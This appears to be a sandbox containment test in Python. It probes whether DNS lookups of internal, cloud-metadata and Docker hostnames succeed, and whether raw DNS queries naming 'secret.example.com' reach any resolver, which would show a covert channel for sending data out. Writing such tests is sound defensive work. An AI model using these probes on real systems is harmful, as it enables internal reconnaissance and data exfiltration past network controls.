"""Names of other machines: a question to a name server carries data out as well as any connection."""

import socket

from attacker import breach, over

QUESTION = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\6secret\7example\3com\0\0\1\0\1"
for name in ("secret.example.com", "metadata.google.internal", "host.docker.internal", "gateway.docker.internal", "docker"):
    try:
        breach(f"{name} is {socket.getaddrinfo(name, 80)[0][4][0]}")
    except OSError as error:
        print("held:", name, "-", error)
servers = ["127.0.0.11", "127.0.0.53", "8.8.8.8", "169.254.169.253"]
try:
    with open("/etc/resolv.conf") as file:
        servers += [line.split()[1] for line in file if line.startswith("nameserver")]
except OSError as error:
    print("held:", error)
for server in servers:
    try:
        with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as channel:
            channel.settimeout(0.3)
            channel.connect((server, 53))
            channel.send(QUESTION)
            breach(f"{server} answered {channel.recv(512)!r}")
    except OSError as error:
        print("held:", server, "-", error)
over()
